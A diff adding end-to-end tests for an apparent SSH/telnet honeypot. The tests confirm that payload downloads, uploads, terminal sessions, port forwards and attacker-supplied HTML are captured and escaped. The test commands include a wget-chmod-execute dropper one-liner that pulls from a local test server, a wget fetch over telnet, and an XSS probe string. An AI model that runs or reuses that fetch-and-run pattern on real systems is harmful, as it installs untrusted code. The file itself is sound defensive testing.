@@ -1,0 +1,151 @@
+from __future__ import annotations
+
+import hashlib
+import re
+import subprocess
+
+import pytest
+from tests.support.running import Dropper, RunningTrap, eventually
+
+pytestmark = pytest.mark.e2e
+
+
+def test_a_downloaded_payload_becomes_an_artifact_a_url_and_a_feed_entry(
+    trap: RunningTrap, dropper: Dropper
+) -> None:
+    url = f"{dropper.base}/bins/x86"
+    done = trap.ssh(f"cd /tmp; wget -q {url} -O .x && chmod +x .x && (./.x >/dev/null 2>&1 &); sha256sum .x")
+    digest = hashlib.sha256(dropper.payload).hexdigest()
+    assert digest in done.stdout.decode(), done
+    path, headers = dropper.requests[0]
+    assert path == "/bins/x86" and headers["User-Agent"].startswith("Wget/")
+
+    eventually(lambda: url in trap.get("/feed.txt").splitlines(), "the URL is in feed.txt")
+    row = next(row for row in trap.json("urls") if row["url"] == url)
+    assert row["verdict"] == "malicious-observed"
+    assert any(row["artifact"]["sha256"] == digest for row in trap.json("artifacts"))
+    assert url in trap.get("/feed.csv") and url in trap.get("/feed.json")
+    assert f"{dropper.base.replace('http', 'hxxp', 1).replace('.', '[.]')}/bins/x86" in trap.get("/urls")
+    assert len(dropper.requests) == 1
+
+
+def test_output_errors_and_exit_status_come_apart(trap: RunningTrap) -> None:
+    done = trap.ssh("echo out; echo err >&2; exit 7")
+    assert (done.stdout, done.stderr, done.returncode) == (b"out\n", b"err\n", 7)
+
+
+def test_standard_input_reaches_the_command(trap: RunningTrap) -> None:
+    body = b"first\nsecond \xff\x00 line\n" * 5000
+    done = trap.ssh("cat > /tmp/in; cat /tmp/in", stdin=body)
+    assert done.stdout == body
+
+
+def test_scp_and_sftp_uploads_become_artifacts(
+    trap: RunningTrap, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    folder = tmp_path_factory.mktemp("upload")
+    first, second = folder / "payload.bin", folder / "other.bin"
+    first.write_bytes(b"harmless \x00\x01 one" * 3000)
+    second.write_bytes(b"harmless two" * 999)
+    port = str(trap.ssh_port)
+    for protocol in ("-O", "-s"):
+        done = subprocess.run(
+            [
+                "scp",
+                protocol,
+                *trap.ssh_options(),
+                "-P",
+                port,
+                str(first),
+                "root@127.0.0.1:/tmp/up" + protocol,
+            ],
+            env=trap.env,
+            capture_output=True,
+            timeout=60,
+        )
+        assert done.returncode == 0, done
+    done = subprocess.run(
+        ["sftp", *trap.ssh_options(), "-P", port, "-b", "-", "root@127.0.0.1"],
+        input=f"put {second} /var/tmp/two\nls -l /var/tmp\nget /var/tmp/two {folder}/back\nbye\n".encode(),
+        env=trap.env,
+        capture_output=True,
+        timeout=60,
+    )
+    assert done.returncode == 0 and b"two" in done.stdout, done
+    assert (folder / "back").read_bytes() == second.read_bytes()
+    assert (
+        trap.ssh("cat /tmp/up-O | md5sum; cat /tmp/up-s | md5sum").stdout.count(
+            hashlib.md5(first.read_bytes()).hexdigest().encode()
+        )
+        == 2
+    )
+    wanted = {hashlib.sha256(path.read_bytes()).hexdigest() for path in (first, second)}
+    eventually(
+        lambda: wanted <= {row["artifact"]["sha256"] for row in trap.json("artifacts")},
+        "both uploads are artifacts",
+    )
+
+
+def test_a_terminal_session_is_journalled_and_replayed(trap: RunningTrap) -> None:
+    script = b"echo marker-$((6*7))\nuname -s\nexit\n"
+    done = subprocess.run(
+        ["ssh", "-tt", *trap.ssh_options(), "-p", str(trap.ssh_port), "root@127.0.0.1"],
+        input=script,
+        env=trap.env,
+        capture_output=True,
+        timeout=60,
+    )
+    assert b"marker-42" in done.stdout and b"Linux" in done.stdout, done
+
+    def recorded() -> str | None:
+        for row in trap.json("sessions"):
+            if row["commands"] >= 3 and row["ended"]:
+                text = trap.cli("replay", row["id"], "--plain")
+                if "marker-42" in text:
+                    return str(row["id"])
+        return None
+
+    session = eventually(recorded, "the session can be replayed")
+    shown = trap.cli("show", session)
+    assert "echo marker-$((6*7))" in shown and "uname -s" in shown
+    assert "marker-" in trap.get(f"/sessions/{session}")
+
+
+def test_a_telnet_client_gets_a_shell_and_its_url_is_kept(trap: RunningTrap, dropper: Dropper) -> None:
+    url = f"{dropper.base}/telnet.sh"
+    from tests.support.telnet import TelnetClient
+
+    with TelnetClient("127.0.0.1", trap.telnet_port) as client:
+        client.login("root", "letmein-7")
+        output = client.run(f"wget {url} -O /tmp/t; echo done-$?")
+        assert "done-0" in output, output
+    eventually(lambda: any(row["url"] == url for row in trap.json("urls")), "the URL is listed")
+
+
+def test_a_port_forward_is_recorded_and_leads_nowhere(trap: RunningTrap) -> None:
+    done = subprocess.run(
+        ["ssh", *trap.ssh_options(), "-p", str(trap.ssh_port), "-W", "victim.invalid:25", "root@127.0.0.1"],
+        input=b"EHLO x\r\n",
+        env=trap.env,
+        capture_output=True,
+        timeout=60,
+    )
+    assert b"220" not in done.stdout
+
+    def seen() -> bool:
+        return any(
+            event["kind"] == "forward.asked" and event["host"] == "victim.invalid" and event["port"] == 25
+            for row in trap.json("sessions")
+            for event in trap.json("show", row["id"])["events"]
+        )
+
+    eventually(seen, "the forward is in its session")
+
+
+def test_pages_answer_and_show_attackers_text_escaped(trap: RunningTrap) -> None:
+    trap.ssh("echo '<script>alert(1)</script>'; wget http://198.51.100.7/<b>x")
+    eventually(lambda: any("<script>" in str(row) for row in trap.json("commands")), "listed")
+    for path in ("/", "/sessions", "/urls"):
+        page = trap.get(path)
+        assert "<script>alert(1)" not in page
+        assert not re.search(r"<a [^>]*href=\"http://198\.51", page)
